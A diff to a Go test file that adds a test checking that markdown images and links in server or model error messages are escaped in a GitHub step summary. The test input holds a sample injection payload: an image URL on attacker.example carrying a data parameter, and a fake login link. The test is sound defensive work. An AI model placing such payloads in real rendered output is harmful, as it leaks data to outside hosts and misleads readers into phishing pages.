@@ -296,6 +296,15 @@ func TestFailureRendering(t *testing.T) {
 		"the detail is a code block, its fence longer than any run of backticks in it")
 	assert.Contains(t, md, "- `old` error_auth: HTTP 401: bad key\n")
 
+	// A message that a server or the model wrote may hold markdown's links and images:
+	// GitHub fetches an image of the step summary as it renders it, and shows a link as
+	// the run's own. Both stay text.
+	pixel := &protocol.Result{Key: "img", Status: protocol.StatusProvider, Error: &protocol.Error{Kind: protocol.ErrRequest,
+		Message: `HTTP 400: ![pixel](https://attacker.example/p.png?d=x) see [the docs](https://attacker.example/login) \[x]`}}
+	md = (&Summary{Spec: "jobs.yaml", Sessions: []Row{rowOf(pixel, false)}}).Markdown()
+	assert.Contains(t, md, `!\[pixel\](https://attacker.example/p.png?d=x) see \[the docs\](https://attacker.example/login) \\\[x\]`)
+	assert.NotRegexp(t, `(^|[^\\])\]\(`, md, "a link or an image is left in summary.md")
+
 	doc, err := sum.JUnit(func(string) string { return t.TempDir() })
 	require.NoError(t, err)
 	var parsed struct {
